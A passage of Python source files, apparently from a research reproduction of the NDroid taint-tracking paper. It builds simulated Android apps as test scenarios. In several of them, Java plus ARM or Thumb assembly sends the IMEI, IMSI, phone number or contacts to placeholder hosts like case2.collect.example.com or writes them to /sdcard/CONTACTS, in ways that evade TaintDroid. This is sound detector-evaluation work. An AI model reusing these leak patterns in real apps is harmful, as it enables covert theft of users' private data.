    handler.invoke_static("Ljava/lang/String;->length", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    return apk


def build_market_callrecorder() -> Apk:
    """App 6 — native writes an untainted config file."""
    cls = ClassDef("Lcom/market/callrec/Main;")
    cls.add_method(MethodBuilder(cls.name, "saveConfig", "I", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=1)
    _loader_main(main, "librec.so")
    cls.add_method(main.build())
    handler = MethodBuilder(cls.name, "onRecord", "V", static=True,
                            registers=1)
    handler.invoke_static(f"{cls.name}->saveConfig")
    handler.ret_void()
    cls.add_method(handler.build())
    native = """
    Java_com_market_callrec_Main_saveConfig:
        push {r4, lr}
        ldr r0, =path
        ldr r1, =mode
        ldr ip, =fopen
        blx ip
        mov r4, r0
        ldr r0, =config
        mov r1, #1
        mov r2, #10
        mov r3, r4
        ldr ip, =fwrite
        blx ip
        mov r0, r4
        ldr ip, =fclose
        blx ip
        mov r0, #0
        pop {r4, pc}
    path:
        .asciz "/sdcard/rec.cfg"
    mode:
        .asciz "w"
    config:
        .asciz "rate=8000"
    """
    return Apk(package="com.market.callrec", category="Tools",
               classes=[cls], native_libraries={"librec.so": native},
               load_library_calls=["librec.so"])


def build_market_contactwidget() -> Apk:
    """App 7 — contacts stay in the Java context; JNI unrelated."""
    apk = _clean_jni_app("com.market.contactwidget",
                         "Lcom/market/widget/Main;", "libwidget.so",
                         "onDraw", "Java_com_market_widget_Main_compute",
                         category="Personalization")
    cls = apk.classes[0]
    handler = MethodBuilder(cls.name, "onRefresh", "V", static=True,
                            registers=2)
    handler.invoke_static(
        "Landroid/provider/ContactsContract;->queryAllContacts")
    handler.move_result_object(0)
    handler.invoke_static("Ljava/lang/String;->length", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    return apk


def build_market_phoneinfo() -> Apk:
    """App 8 — phone number displayed in Java; native provides a version."""
    apk = _clean_jni_app("com.market.phoneinfo",
                         "Lcom/market/info/Main;", "libinfo.so",
                         "onAbout", "Java_com_market_info_Main_compute")
    cls = apk.classes[0]
    handler = MethodBuilder(cls.name, "onShowNumber", "V", static=True,
                            registers=2)
    handler.invoke_static(
        "Landroid/telephony/TelephonyManager;->getLine1Number")
    handler.move_result_object(0)
    handler.invoke_static("Ljava/lang/String;->length", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    return apk


MARKET_APPS: Dict[str, Callable[[], Apk]] = {
    "com.market.ephone": build_market_ephone,
    "com.market.smsbackup": build_market_smsbackup,
    "com.market.contactsync": build_market_contactsync,
    "com.market.dialer": build_market_dialer,
    "com.market.smsfilter": build_market_smsfilter,
    "com.market.callrec": build_market_callrecorder,
    "com.market.contactwidget": build_market_contactwidget,
    "com.market.phoneinfo": build_market_phoneinfo,
}


@dataclass
class AppObservation:
    """What NDroid saw for one market app."""

    package: str
    delivered_to_native: bool = False
    delivered_taint: int = 0
    leaked: bool = False
    leak_destinations: List[str] = field(default_factory=list)
    monkey_coverage: float = 0.0


def _analyze_market_app(package: str, build: Callable[[], Apk],
                        seed: int, events: int,
                        ctx=None) -> AppObservation:
    """Run one market app under TaintDroid+NDroid with the Monkey.

    ``ctx`` is an optional :class:`repro.resilience.supervisor.RunContext`
    — when present, the freshly built platform is attached to it so the
    watchdog, crash-report ring buffer and fault plan are wired in.
    """
    from repro.core import NDroid
    from repro.framework.android import AndroidPlatform
    from repro.framework.monkey import MonkeyRunner

    platform = AndroidPlatform()
    ndroid = NDroid.attach(platform)
    if ctx is not None:
        ctx.attach(platform)
    apk = build()
    platform.install(apk)
    monkey = MonkeyRunner(platform, seed=seed)
    session = monkey.run(apk, events=events)
    sensitive = TAINT_CONTACTS | TAINT_SMS
    deliveries = [d for d in ndroid.tainted_native_deliveries()
                  if d["taint"] & sensitive]
    leaks = [r for r in platform.leaks.records if r.taint & sensitive]
    return AppObservation(
        package=package,
        delivered_to_native=bool(deliveries),
        delivered_taint=(deliveries[0]["taint"] if deliveries else 0),
        leaked=bool(leaks),
        leak_destinations=sorted({r.destination for r in leaks}),
        monkey_coverage=session.coverage)


def run_market_study(seed: int = 0, events: int = 12) -> List[AppObservation]:
    """Run all eight apps under TaintDroid+NDroid with the Monkey."""
    return [_analyze_market_app(package, build, seed, events)
            for package, build in MARKET_APPS.items()]


def run_supervised_market_study(seed: int = 0, events: int = 12,
                                plan=None, fault_target: Optional[str] = None,
                                supervisor=None) -> List:
    """The market study under the resilience supervisor.

    Every app runs to a classified outcome
    (:class:`repro.resilience.SupervisedResult` with the
    :class:`AppObservation` as its ``value``): a crash in one app yields
    a structured crash report for that app and leaves every other app's
    results untouched.  ``plan`` is a :class:`repro.resilience.FaultPlan`
    applied to ``fault_target`` (one package) or, when ``fault_target``
    is ``None``, to every app.
    """
    from repro.resilience import Supervisor

    if supervisor is None:
        supervisor = Supervisor(budget=2_000_000)
    results = []
    for package, build in MARKET_APPS.items():
        app_plan = plan if plan and fault_target in (None, package) else None

        def analysis(ctx, package=package, build=build):
            return _analyze_market_app(package, build, seed, events, ctx=ctx)

        results.append(supervisor.run(package, analysis, plan=app_plan))
    return results
