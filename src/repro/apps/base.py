"""Common scenario plumbing."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.common.taint import TaintLabel
from repro.framework.apk import Apk


@dataclass
class Scenario:
    """A runnable leak scenario plus its ground truth."""

    name: str
    apk: Apk
    # Which Table I case this is (or a label like "benign").
    case: str = ""
    # The taint label the leaked data carries.
    expected_taint: TaintLabel = 0
    # Substring of the destination the data flows to ("" = no leak).
    expected_destination: str = ""
    # Whether TaintDroid *alone* should catch the flow (only case 1).
    taintdroid_alone_detects: bool = False
    description: str = ""


def run_scenario(scenario: Scenario, platform) -> None:
    """Install and execute a scenario on a platform."""
    platform.install(scenario.apk)
    platform.run_app(scenario.apk)
