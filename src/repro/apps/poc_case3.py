"""The paper's PoC of case 3 (Fig. 9).

The Java code collects device information (device id, line-1 number,
network operator, SIM serial) into one string and calls the native method
``evadeTaintDroid``.  The native code wraps the data in a fresh Java
String (``NewStringUTF``) and invokes the Java method ``nativeCallback``
through ``CallVoidMethod`` → ``dvmCallMethodV`` → ``dvmInterpret``, which
transmits it.  TaintDroid alone sees an untainted String arrive at the
callback (the DVM cleared the frame's taint slots); NDroid re-taints both
the new String object and the callback's frame slot.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.common.taint import (
    TAINT_ICCID, TAINT_IMEI, TAINT_PHONE_NUMBER,
)
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

CLASS_NAME = "Lcom/ndroid/demos/Demos;"
DESTINATION = "case3.collect.example.com:80"

# The combined device-info string carries the union of its sources.
EXPECTED_TAINT = TAINT_IMEI | TAINT_PHONE_NUMBER | TAINT_ICCID


def build() -> Scenario:
    """Build the Fig. 9 PoC scenario."""
    demos = ClassDef(CLASS_NAME)
    demos.add_method(
        MethodBuilder(CLASS_NAME, "evadeTaintDroid", "VL", static=True,
                      native=True).build())

    # nativeCallback(String): sends the data out (shorty VL).
    callback = MethodBuilder(CLASS_NAME, "nativeCallback", "VL",
                             static=True, registers=3)
    callback.const_string(0, DESTINATION)
    callback.invoke_static("Lorg/apache/http/client/HttpClient;->post", 0, 2)
    callback.ret_void()
    demos.add_method(callback.build())

    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=8)
    main.const_string(0, "libdemos3.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    # Collect device info: "...Line1Number = 15555215554
    # NetworkOperator = 310260..." (Fig. 9).
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static("Landroid/telephony/TelephonyManager;->getLine1Number")
    main.move_result_object(2)
    main.invoke_static(
        "Landroid/telephony/TelephonyManager;->getNetworkOperator")
    main.move_result_object(3)
    main.invoke_static(
        "Landroid/telephony/TelephonyManager;->getSimSerialNumber")
    main.move_result_object(4)
    main.string_concat(5, 1, 2)
    main.string_concat(5, 5, 3)
    main.string_concat(5, 5, 4)
    main.invoke_static(f"{CLASS_NAME}->evadeTaintDroid", 5)
    main.ret_void()
    demos.add_method(main.build())

    native = f"""
    Java_com_ndroid_demos_Demos_evadeTaintDroid:
        ; env=r0 jclass=r1 info=r2 (tainted jstring)
        push {{r4, r5, r6, r7, lr}}
        mov r4, r0
        mov r7, r1
        ; chars = GetStringUTFChars(env, info, NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        ; wrapped = NewStringUTF(env, chars)               (step 1)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('NewStringUTF')}]
        mov r0, r4
        mov r1, r5
        blx ip
        mov r6, r0
        ; mid = GetStaticMethodID(env, jclass, "nativeCallback", 0)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
        mov r0, r4
        mov r1, r7
        ldr r2, =cb_name
        mov r3, #0
        blx ip
        mov r2, r0
        ; CallStaticVoidMethod(env, jclass, mid, wrapped)  (step 2)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('CallStaticVoidMethod')}]
        mov r0, r4
        mov r1, r7
        mov r3, r6
        blx ip
        pop {{r4, r5, r6, r7, pc}}
    cb_name:
        .asciz "nativeCallback"
    """
    apk = Apk(package="com.ndroid.demos.case3", category="Tools",
              classes=[demos], native_libraries={"libdemos3.so": native},
              load_library_calls=["libdemos3.so"])
    return Scenario(
        name="poc_case3", apk=apk, case="3",
        expected_taint=EXPECTED_TAINT,
        expected_destination="case3.collect.example.com",
        taintdroid_alone_detects=False,
        description="PoC of case 3: device info wrapped by NewStringUTF "
                    "and pushed through CallVoidMethod to a transmitting "
                    "Java callback (Fig. 9)")
