"""Benign control app: uses JNI heavily but leaks nothing sensitive.

Exercises the same machinery as the leak scenarios (GetStringUTFChars,
libc string processing, a native ``send``), but over non-sensitive data —
the false-positive check for both detectors.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset


def build() -> Scenario:
    """Build the benign control scenario."""
    cls = ClassDef("Lcom/benign/App;")
    cls.add_method(MethodBuilder(cls.name, "upload", "IL", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "I", static=True, registers=4)
    main.const_string(0, "libbenign.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.const_string(1, "hello=world&version=3")   # not sensitive
    main.invoke_static(f"{cls.name}->upload", 1)
    main.move_result(2)
    main.ret(2)
    cls.add_method(main.build())

    native = f"""
    Java_com_benign_App_upload:        ; (env, jclass, jstring) -> int
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        ; scratch = strdup(chars); strlen(scratch)
        ldr ip, =strdup
        blx ip
        mov r5, r0
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r6, r0
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        mov r0, r5
        ldr ip, =strlen
        blx ip
        mov r2, r0
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, pc}}
    dest:
        .asciz "stats.example.com:80"
    """
    apk = Apk(package="com.benign.app", category="Tools", classes=[cls],
              native_libraries={"libbenign.so": native},
              load_library_calls=["libbenign.so"])
    return Scenario(
        name="benign", apk=apk, case="benign", expected_taint=0,
        expected_destination="",
        taintdroid_alone_detects=False,
        description="JNI-heavy app transmitting only non-sensitive data "
                    "(false-positive control)")
