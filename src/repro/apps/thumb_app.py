"""A case-2 leak whose native library is **Thumb** code.

The paper's instruction tracer handles 55 Thumb instructions alongside
the 101 ARM ones (Section V.C); this scenario compiles its entire native
half in the 16-bit Thumb encoding, so the leak's whole native path —
parameter pickup, JNI calls through the env table, libc calls through the
literal pool, the final ``send`` — runs in Thumb state and is tracked by
the Thumb side of Table V.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.common.taint import TAINT_IMSI
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

CLASS_NAME = "Lcom/cases/ThumbApp;"
DESTINATION = "thumb.collect.example.com:80"


def build() -> Scenario:
    """Build the Thumb-native case-2 scenario."""
    cls = ClassDef(CLASS_NAME)
    cls.add_method(MethodBuilder(CLASS_NAME, "exfil", "VL", static=True,
                                 native=True).build())
    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=4)
    main.const_string(0, "libthumb.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.invoke_static(
        "Landroid/telephony/TelephonyManager;->getSubscriberId")
    main.move_result_object(1)
    main.invoke_static(f"{CLASS_NAME}->exfil", 1)
    main.ret_void()
    cls.add_method(main.build())

    get_chars = jni_offset("GetStringUTFChars")
    native = f"""
    .thumb
    Java_com_cases_ThumbApp_exfil:   ; r0=env, r1=jclass, r2=jstring
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ; chars = GetStringUTFChars(env, jstring, NULL)
        ldr r3, [r4]
        ldr r3, [r3, #{get_chars}]
        mov r1, r2
        mov r2, #0
        blx r3
        mov r5, r0
        ; fd = socket(AF_INET, SOCK_STREAM)
        mov r0, #2
        mov r1, #1
        ldr r3, =socket
        blx r3
        mov r6, r0
        ; connect(fd, dest)
        ldr r1, =dest
        ldr r3, =connect
        blx r3
        ; n = strlen(chars)
        mov r0, r5
        ldr r3, =strlen
        blx r3
        mov r2, r0
        ; send(fd, chars, n, 0)
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr r7, =send
        blx r7
        pop {{r4, r5, r6, pc}}
    .align 2
    dest:
        .asciz "thumb.collect.example.com:80"
    """
    apk = Apk(package="com.cases.thumbapp", category="Tools", classes=[cls],
              native_libraries={"libthumb.so": native},
              load_library_calls=["libthumb.so"])
    return Scenario(
        name="case2_thumb", apk=apk, case="2",
        expected_taint=TAINT_IMSI,
        expected_destination="thumb.collect.example.com",
        taintdroid_alone_detects=False,
        description="Case-2 leak with the native half compiled to Thumb: "
                    "the 16-bit side of Table V tracks the flow")
