"""The Table I case matrix as runnable apps (paper Section IV, Fig. 3).

Each case app leaks the device IMEI through a different
{source, intermediate, sink} arrangement:

* **case 1** — Java source → native intermediate → Java sink via the
  native method's *return value*.  TaintDroid's call-bridge policy (taint
  the return if any parameter is tainted) catches this — the only case it
  catches.
* **case 1'** — the tainted parameter is *stashed in native memory* by one
  call and fetched back by a second call with untainted parameters; the
  bridge policy yields no taint, so TaintDroid misses it.
* **case 2** — Java source → native sink (``send`` from native code).
* **case 3** — the paper's Fig. 9 shape: data enters native, is re-wrapped
  via ``NewStringUTF`` and pushed back through ``CallVoidMethod`` to a
  Java callback that transmits it.
* **case 4** — the *native* code pulls the data out of the Java context
  itself (``CallStaticObjectMethod`` on a source-calling Java method) and
  leaks it through a native ``send``.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.common.taint import TAINT_IMEI
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

_GET_CHARS = jni_offset("GetStringUTFChars")
_NEW_STRING = jni_offset("NewStringUTF")
_GET_STATIC_MID = jni_offset("GetStaticMethodID")
_CALL_STATIC_VOID = jni_offset("CallStaticVoidMethod")
_CALL_STATIC_OBJ = jni_offset("CallStaticObjectMethod")


def _java_main_prologue(builder: MethodBuilder, library: str) -> None:
    builder.const_string(0, library)
    builder.invoke_static("Ljava/lang/System;->loadLibrary", 0)


# --------------------------------------------------------------------- case 1

def build_case1() -> Scenario:
    """Java source -> native transform -> Java sink (detected by both)."""
    cls = ClassDef("Lcom/cases/One;")
    cls.add_method(MethodBuilder(cls.name, "wrap", "LL", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=6)
    _java_main_prologue(main, "libcase1.so")
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->wrap", 1)   # step 1: into native
    main.move_result_object(2)
    main.const_string(3, "case1.collect.example.com:80")
    main.invoke_static("Lorg/apache/http/client/HttpClient;->post", 3, 2)
    main.ret_void()                               # step 2: Java sends
    cls.add_method(main.build())

    native = f"""
    Java_com_cases_One_wrap:          ; (env, jclass, jstring) -> jstring
        push {{r4, r5, lr}}
        mov r4, r0
        ; chars = GetStringUTFChars(env, str, NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_CHARS}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        ; return NewStringUTF(env, chars)
        ldr ip, [r4]
        ldr ip, [ip, #{_NEW_STRING}]
        mov r0, r4
        mov r1, r5
        blx ip
        pop {{r4, r5, pc}}
    """
    apk = Apk(package="com.cases.one", category="Tools", classes=[cls],
              native_libraries={"libcase1.so": native},
              load_library_calls=["libcase1.so"])
    return Scenario(
        name="case1", apk=apk, case="1", expected_taint=TAINT_IMEI,
        expected_destination="case1.collect.example.com",
        taintdroid_alone_detects=True,
        description="Java source -> native intermediate -> Java sink via "
                    "the native return value (Fig. 3a)")


# -------------------------------------------------------------------- case 1'

def build_case1_prime() -> Scenario:
    """Stash in native memory, fetch via a second untainted call."""
    cls = ClassDef("Lcom/cases/OnePrime;")
    cls.add_method(MethodBuilder(cls.name, "stash", "IL", static=True,
                                 native=True).build())
    cls.add_method(MethodBuilder(cls.name, "fetch", "L", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=6)
    _java_main_prologue(main, "libcase1p.so")
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->stash", 1)   # step 1 (return unused)
    main.invoke_static(f"{cls.name}->fetch")      # step 2'' (no taint in)
    main.move_result_object(2)
    main.const_string(3, "case1p.collect.example.com:80")
    main.invoke_static("Lorg/apache/http/client/HttpClient;->post", 3, 2)
    main.ret_void()                               # step 3
    cls.add_method(main.build())

    native = f"""
    Java_com_cases_OnePrime_stash:    ; (env, jclass, jstring) -> int
        push {{r4, r5, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_CHARS}]
        mov r1, r2
        mov r2, #0
        blx ip
        ; strcpy(stash_buffer, chars)
        mov r1, r0
        ldr r0, =stash_buffer
        ldr ip, =strcpy
        blx ip
        mov r0, #0
        pop {{r4, r5, pc}}

    Java_com_cases_OnePrime_fetch:    ; (env, jclass) -> jstring
        push {{r4, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{_NEW_STRING}]
        ldr r1, =stash_buffer
        blx ip
        pop {{r4, pc}}

    .align 2
    stash_buffer:
        .space 64
    """
    apk = Apk(package="com.cases.oneprime", category="Tools", classes=[cls],
              native_libraries={"libcase1p.so": native},
              load_library_calls=["libcase1p.so"])
    return Scenario(
        name="case1_prime", apk=apk, case="1'", expected_taint=TAINT_IMEI,
        expected_destination="case1p.collect.example.com",
        taintdroid_alone_detects=False,
        description="Sensitive data parked in native memory and fetched by "
                    "a second, untainted native call (Fig. 3b, steps 2''/3)")


# --------------------------------------------------------------------- case 2

def build_case2() -> Scenario:
    """Java source -> native sink (send from native code)."""
    cls = ClassDef("Lcom/cases/Two;")
    cls.add_method(MethodBuilder(cls.name, "exfiltrate", "VL", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=4)
    _java_main_prologue(main, "libcase2.so")
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->exfiltrate", 1)   # steps 1+2
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    Java_com_cases_Two_exfiltrate:    ; (env, jclass, jstring) -> void
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_CHARS}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0                    ; chars
        ; fd = socket(AF_INET, SOCK_STREAM)
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r6, r0
        ; connect(fd, "case2.collect.example.com:80")
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        ; n = strlen(chars)
        mov r0, r5
        ldr ip, =strlen
        blx ip
        mov r2, r0
        ; send(fd, chars, n, 0)
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, pc}}
    dest:
        .asciz "case2.collect.example.com:80"
    """
    apk = Apk(package="com.cases.two", category="Communication",
              classes=[cls], native_libraries={"libcase2.so": native},
              load_library_calls=["libcase2.so"])
    return Scenario(
        name="case2", apk=apk, case="2", expected_taint=TAINT_IMEI,
        expected_destination="case2.collect.example.com",
        taintdroid_alone_detects=False,
        description="Native code sends the sensitive parameter out itself "
                    "(Fig. 3b, steps 1/2)")


# --------------------------------------------------------------------- case 3

def build_case3() -> Scenario:
    """Native wraps the data in a new String and pushes it to Java."""
    cls = ClassDef("Lcom/cases/Three;")
    cls.add_method(MethodBuilder(cls.name, "evade", "VL", static=True,
                                 native=True).build())
    callback = MethodBuilder(cls.name, "nativeCallback", "VL", static=True,
                             registers=3)
    callback.const_string(0, "case3.collect.example.com:80")
    callback.invoke_static("Lorg/apache/http/client/HttpClient;->post", 0, 2)
    callback.ret_void()
    cls.add_method(callback.build())

    main = MethodBuilder(cls.name, "main", "V", static=True, registers=4)
    _java_main_prologue(main, "libcase3.so")
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->evade", 1)
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    Java_com_cases_Three_evade:       ; (env, jclass, jstring) -> void
        push {{r4, r5, r6, r7, lr}}
        mov r4, r0
        mov r7, r1                    ; jclass
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_CHARS}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0                    ; chars
        ; wrapped = NewStringUTF(env, chars)    (step 1)
        ldr ip, [r4]
        ldr ip, [ip, #{_NEW_STRING}]
        mov r0, r4
        mov r1, r5
        blx ip
        mov r6, r0                    ; new jstring iref
        ; mid = GetStaticMethodID(env, jclass, "nativeCallback", 0)
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_STATIC_MID}]
        mov r0, r4
        mov r1, r7
        ldr r2, =cb_name
        mov r3, #0
        blx ip
        mov r2, r0
        ; CallStaticVoidMethod(env, jclass, mid, wrapped)   (step 2)
        ldr ip, [r4]
        ldr ip, [ip, #{_CALL_STATIC_VOID}]
        mov r0, r4
        mov r1, r7
        mov r3, r6
        blx ip
        pop {{r4, r5, r6, r7, pc}}
    cb_name:
        .asciz "nativeCallback"
    """
    apk = Apk(package="com.cases.three", category="Tools", classes=[cls],
              native_libraries={"libcase3.so": native},
              load_library_calls=["libcase3.so"])
    return Scenario(
        name="case3", apk=apk, case="3", expected_taint=TAINT_IMEI,
        expected_destination="case3.collect.example.com",
        taintdroid_alone_detects=False,
        description="Native re-wraps the data (NewStringUTF) and calls a "
                    "Java method that transmits it (Fig. 3c, steps 3/4)")


# --------------------------------------------------------------------- case 4

def build_case4() -> Scenario:
    """Native pulls the data from Java via JNI and leaks it natively."""
    cls = ClassDef("Lcom/cases/Four;")
    cls.add_method(MethodBuilder(cls.name, "harvest", "V", static=True,
                                 native=True).build())
    # The Java helper the native code invokes to obtain the data (step 1).
    helper = MethodBuilder(cls.name, "readImei", "L", static=True,
                           registers=2)
    helper.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    helper.move_result_object(0)
    helper.ret_object(0)
    cls.add_method(helper.build())

    main = MethodBuilder(cls.name, "main", "V", static=True, registers=2)
    _java_main_prologue(main, "libcase4.so")
    main.invoke_static(f"{cls.name}->harvest")
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    Java_com_cases_Four_harvest:      ; (env, jclass) -> void
        push {{r4, r5, r6, r7, lr}}
        mov r4, r0
        mov r7, r1
        ; mid = GetStaticMethodID(env, jclass, "readImei", 0)
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_STATIC_MID}]
        ldr r2, =helper_name
        mov r3, #0
        blx ip
        mov r2, r0
        ; jstring = CallStaticObjectMethod(env, jclass, mid)   (step 1)
        ldr ip, [r4]
        ldr ip, [ip, #{_CALL_STATIC_OBJ}]
        mov r0, r4
        mov r1, r7
        blx ip
        mov r5, r0
        ; chars = GetStringUTFChars(env, jstring, NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_CHARS}]
        mov r0, r4
        mov r1, r5
        mov r2, #0
        blx ip
        mov r5, r0
        ; fd = socket(2, 1); connect; send   (step 2)
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r6, r0
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        mov r0, r5
        ldr ip, =strlen
        blx ip
        mov r2, r0
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, r7, pc}}
    helper_name:
        .asciz "readImei"
    dest:
        .asciz "case4.collect.example.com:80"
    """
    apk = Apk(package="com.cases.four", category="Tools", classes=[cls],
              native_libraries={"libcase4.so": native},
              load_library_calls=["libcase4.so"])
    return Scenario(
        name="case4", apk=apk, case="4", expected_taint=TAINT_IMEI,
        expected_destination="case4.collect.example.com",
        taintdroid_alone_detects=False,
        description="Native fetches the data from the Java context via JNI "
                    "and sends it out natively (Fig. 3c, steps 1/2)")
