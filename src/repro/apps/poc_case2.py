"""The paper's PoC of case 2 (Fig. 8).

``Lcom/ndroid/demos/Demos;->recordContact`` (shorty ``ZLLL``) receives the
contact id, name and email (each tainted ``0x2``), converts them with
three ``GetStringUTFChars`` calls, opens ``/sdcard/CONTACTS`` with
``fopen`` and writes them with ``fprintf("%s %s %s  ", ...)`` — a native
file sink invisible to TaintDroid.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.common.taint import TAINT_CONTACTS
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

CLASS_NAME = "Lcom/ndroid/demos/Demos;"
OUTPUT_PATH = "/sdcard/CONTACTS"


def build() -> Scenario:
    """Build the Fig. 8 PoC scenario."""
    demos = ClassDef(CLASS_NAME)
    demos.add_method(
        MethodBuilder(CLASS_NAME, "recordContact", "ZLLL", static=True,
                      native=True).build())

    main = MethodBuilder(CLASS_NAME, "main", "I", static=True, registers=6)
    main.const_string(0, "libdemos.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.const(4, 0)  # contact index
    main.invoke_static("Landroid/provider/ContactsContract;->getContactId", 4)
    main.move_result_object(1)
    main.invoke_static("Landroid/provider/ContactsContract;->getContactName",
                       4)
    main.move_result_object(2)
    main.invoke_static("Landroid/provider/ContactsContract;->getContactEmail",
                       4)
    main.move_result_object(3)
    main.invoke_static(f"{CLASS_NAME}->recordContact", 1, 2, 3)
    main.move_result(5)
    main.ret(5)
    demos.add_method(main.build())

    get_chars = jni_offset("GetStringUTFChars")
    native = f"""
    Java_com_ndroid_demos_Demos_recordContact:
        ; env=r0 jclass=r1 id=r2 name=r3 email=[sp]
        ldr ip, [sp]                   ; email jstring (read before push)
        push {{r4, r5, r6, r7, r8, lr}}
        mov r4, r0                     ; env
        mov r5, r2                     ; id jstring
        mov r7, r3                     ; name jstring
        mov r6, ip                     ; email jstring
        ; --- 1st call: id chars ---
        ldr ip, [r4]
        ldr ip, [ip, #{get_chars}]
        mov r0, r4
        mov r1, r5
        mov r2, #0
        blx ip
        mov r5, r0
        ; --- 2nd call: name chars ---
        ldr ip, [r4]
        ldr ip, [ip, #{get_chars}]
        mov r0, r4
        mov r1, r7
        mov r2, #0
        blx ip
        mov r7, r0
        ; --- 3rd call: email chars ---
        ldr ip, [r4]
        ldr ip, [ip, #{get_chars}]
        mov r0, r4
        mov r1, r6
        mov r2, #0
        blx ip
        mov r6, r0
        ; --- fopen("/sdcard/CONTACTS", "w") ---
        ldr r0, =path
        ldr r1, =mode
        ldr ip, =fopen
        blx ip
        mov r8, r0
        ; --- fprintf(file, "%s %s %s  ", id, name, email) ---
        mov r0, r8
        ldr r1, =format
        mov r2, r5
        mov r3, r7
        str r6, [sp, #-8]!
        ldr ip, =fprintf
        blx ip
        add sp, sp, #8
        ; --- fclose(file) ---
        mov r0, r8
        ldr ip, =fclose
        blx ip
        mov r0, #1
        pop {{r4, r5, r6, r7, r8, pc}}

    path:
        .asciz "/sdcard/CONTACTS"
    mode:
        .asciz "w"
    format:
        .asciz "%s %s %s  "
    """
    apk = Apk(package="com.ndroid.demos.case2", category="Tools",
              classes=[demos], native_libraries={"libdemos.so": native},
              load_library_calls=["libdemos.so"])
    return Scenario(
        name="poc_case2", apk=apk, case="2",
        expected_taint=TAINT_CONTACTS,
        expected_destination=OUTPUT_PATH,
        taintdroid_alone_detects=False,
        description="PoC of case 2: contact id/name/email written to "
                    "/sdcard/CONTACTS through fopen/fprintf/fclose (Fig. 8)")
