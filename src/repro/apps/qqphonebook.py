"""QQPhoneBook v3.5 (paper Fig. 6) — the real-world case-1' flow.

The Java code combines SMS and contact data (taint ``0x202`` =
SMS | CONTACTS) and passes it as ``args[3]`` of the native method
``makeLoginRequestPackageMd5`` (class ``Lcom/tencent/tccsync/LoginUtil;``,
shorty ``IILLLLLLLLII``).  The native code formats it into a login URL
